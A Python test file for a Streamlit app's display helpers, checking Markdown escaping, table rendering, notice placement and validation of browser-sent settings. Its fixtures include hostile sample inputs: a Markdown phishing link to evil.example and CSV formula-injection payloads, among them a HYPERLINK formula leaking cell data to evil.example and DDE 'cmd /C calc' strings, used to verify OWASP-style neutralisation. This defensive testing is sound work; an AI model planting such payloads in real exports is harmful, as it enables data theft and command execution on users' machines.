"""ui.display's helpers: text shown exactly as written where Streamlit renders Markdown
(`as_text`, `static_table`), a table whose own CSV download holds no formula (`data_table`), a notice that
keeps its place whatever the settings (`note_if`),
and shared settings set from numbers a browser component sent (`set_shared`, and the live
preview's callback that uses it)."""

from __future__ import annotations

import re
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st_h
from streamlit.testing.v1 import AppTest

from tests.links import markdown_problems
from ui.display import as_text

UNESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")  # what CommonMark does to a backslash before ASCII punctuation


@given(st_h.text())
def test_as_text_shows_as_written_and_leaves_no_punctuation_live(text):
    shown = as_text(text)
    assert UNESCAPE.sub(r"\1", shown) == text  # Markdown turns it back into the text, character for character
    live = UNESCAPE.sub("", shown)
    assert not set(live) & set(string.punctuation)  # nothing left that could start Markdown, LaTeX, HTML or a directive


def test_as_text_by_hand():
    assert as_text("max |value| ×2.004 on [L, 2L)") == r"max \|value\| ×2\.004 on \[L\, 2L\)"  # every ASCII punctuation mark, the comma too
    assert as_text(":red[x] $y$ www.a.b") == r"\:red\[x\] \$y\$ www\.a\.b"
    assert as_text("✓ 0 parameters") == "✓ 0 parameters"


def _tables_app() -> None:
    import streamlit as st

    from ui.display import static_table

    hostile = "evil [Login](https://evil.example) :red[evil] $evil$ <b>evil</b>"
    if st.session_state.get("raw"):
        st.table({"a": [hostile]})
    else:
        static_table({"a": [hostile], f"{hostile} header": [1.5]})


def test_static_table_leaves_no_markup_and_the_oracle_sees_a_raw_one():
    at = AppTest.from_function(_tables_app).run()
    assert not at.exception and markdown_problems(at) == []
    raw = AppTest.from_function(_tables_app)
    raw.session_state["raw"] = True
    raw.run()
    assert markdown_problems(raw), "the hostile-input oracle must flag a table cell that Markdown would turn into a link"


def _data_table_app() -> None:
    import pandas as pd
    import streamlit as st

    from ui.display import data_table

    cells = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\rx"]
    cells += ["-0.5", "+1e-3", "-inf", "a = b", "", "'quoted"]
    frame = pd.DataFrame({"=name": cells, "n": range(len(cells)), "x": [-0.5] * len(cells)}, index=[f"@{i}" for i in range(len(cells))])
    (st.dataframe if st.session_state.get("raw") else data_table)(frame)


def test_a_data_tables_own_csv_download_holds_no_formula():
    """The cells st.dataframe sends, which its toolbar's "Download as CSV" writes as they are: text that
    starts like a formula gets a single quote in front (OWASP's rule), header and index too; numbers, text
    that is a number and any other text are left alone. The oracle: st.dataframe itself sends them raw."""
    at = AppTest.from_function(_data_table_app).run()
    assert not at.exception
    frame = at.dataframe[0].value
    assert list(frame.columns) == ["'=name", "n", "x"]
    assert frame["'=name"].tolist() == [
        "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)", "'\tx", "'\rx",
        "-0.5", "+1e-3", "-inf", "a = b", "", "'quoted",
    ]  # fmt: skip
    assert frame["n"].tolist() == list(range(12)) and frame["x"].tolist() == [-0.5] * 12
    assert frame.index.tolist() == [f"'@{i}" for i in range(12)]
    raw = AppTest.from_function(_data_table_app)
    raw.session_state["raw"] = True
    raw.run()
    assert raw.dataframe[0].value.iloc[0, 0].startswith("=HYPERLINK"), "st.dataframe alone sends the formula as it is"


def _notice_app() -> None:
    import streamlit as st

    from ui.display import note_if

    note_if(st.session_state.get("shown", False), "a notice")
    note_if(st.session_state.get("shown", False), "a caption", caption=True)
    st.markdown("after the notices")


def test_a_notice_that_comes_and_goes_keeps_the_elements_after_it_in_place():
    places = []
    for shown in (False, True):
        at = AppTest.from_function(_notice_app)
        at.session_state["shown"] = shown
        at.run()
        assert len(at.info) == int(shown) and len(at.caption) == int(shown)
        places.append([type(child).__name__ for child in at.main.children.values()])
    assert places[0] == places[1] and places[0][-1] == "Markdown"  # the same blocks at the same indices: nothing after them moves


def _set_shared_app() -> None:
    import streamlit as st

    from ui.sidebar import set_shared, shared_controls

    if "sent" in st.session_state and "result" not in st.session_state:
        st.session_state["result"] = set_shared(st.session_state["sent"])  # before the widgets, as a callback
    s = shared_controls()
    st.session_state["shown"] = (s.d_model, s.max_len, s.base)


@pytest.mark.parametrize(
    ("sent", "taken", "shown"),
    [
        ({"d_model": 48, "max_len": 77, "base": 1995.26}, True, (48, 77, 1995.26)),  # the preview's settings, off the slider's stops
        ({"d_model": 9_000_000, "max_len": 77, "base": 1.0}, True, (8192, 77, 2.0)),  # out of range: clamped, as a link's value
        ({"d_model": 48, "max_len": 77.5, "base": 500}, False, (128, 256, 10000.0)),  # a fraction for a whole number: none is taken
        ({"d_model": "48", "max_len": 77, "base": 500}, False, (128, 256, 10000.0)),  # not a number
        ({"d_model": 48, "base": float("nan")}, False, (128, 256, 10000.0)),
        ({"d_model": True}, False, (128, 256, 10000.0)),
        ({}, False, (128, 256, 10000.0)),
        ("d_model=48", False, (128, 256, 10000.0)),
        ({"max_len": 512}, True, (128, 512, 10000.0)),  # only what was sent changes
        ({"d_model": 10**400}, True, (8192, 256, 10000.0)),  # an integer past a float's range: clamped, not an OverflowError
        ({"d_model": 64.0, "base": 500}, True, (64, 256, 500.0)),  # a whole number written as a float
    ],
)
def test_set_shared_takes_checked_numbers_all_or_none(sent, taken, shown):
    at = AppTest.from_function(_set_shared_app).run()  # a session at the defaults, then the preview's message
    at.session_state["sent"] = sent
    at.run()
    assert not at.exception
    assert at.session_state["result"] is taken
    assert at.session_state["shown"] == shown
    assert (at.session_state["d_model_slider"], at.session_state["max_len_slider"], at.session_state["base_slider"]) == shown  # the slider agrees


def _apply_app() -> None:
    import streamlit as st

    from ui import sinusoid_preview
    from ui.sidebar import shared_controls

    if "sent" in st.session_state and "done" not in st.session_state:
        st.session_state["done"] = True
        st.session_state[sinusoid_preview.KEY] = {"apply": st.session_state["sent"]}  # what the component's trigger holds
        sinusoid_preview._apply()  # reruns the app when it takes the settings
    s = shared_controls()
    st.session_state["shown"] = (s.d_model, s.max_len, s.base)
    st.session_state["refused"] = st.session_state.get(sinusoid_preview.REFUSED, False)


@pytest.mark.parametrize(
    ("sent", "refused", "shown"),
    [
        ({"d_model": 48, "max_len": 77, "base": 1995.26}, False, (48, 77, 1995.26)),
        ({"d_model": "<b>48</b>", "max_len": 77, "base": 500}, True, (128, 256, 10000.0)),
        (["d_model", 48], True, (128, 256, 10000.0)),
        (None, True, (128, 256, 10000.0)),
    ],
)
def test_the_preview_button_sets_the_sidebar_or_refuses_and_says_so(sent, refused, shown):
    at = AppTest.from_function(_apply_app).run()
    at.session_state["sent"] = sent
    at.run()
    assert not at.exception
    assert at.session_state["refused"] is refused and at.session_state["shown"] == shown


def test_a_figures_title_as_text_for_a_narrow_column():
    # the paragraph app.css shows where the figure is too narrow for its title: the title's words on one line (it wraps
    # in the browser), the small print beneath, laid over the title's band less the row a mark's label may take
    import numpy as np

    from core.viz import charts
    from ui import display

    long = "the title of a figure, long enough to take two lines of a chart at the width its lines are broken for, as wide as a whole chart"
    fig = charts.lines([("a", np.arange(3), np.ones(3))], title=long, note="first 3 positions & more", x_title="x", y_title="y")
    text = display._title_text(fig)
    assert text == (
        f'<p class="pee-figure-title" style="margin-bottom: -{70 + 23 - charts.MARK_LINE_PX}px">{long}'
        '<br><span class="pee-figure-note">first 3 positions &amp; more</span></p>'
    )
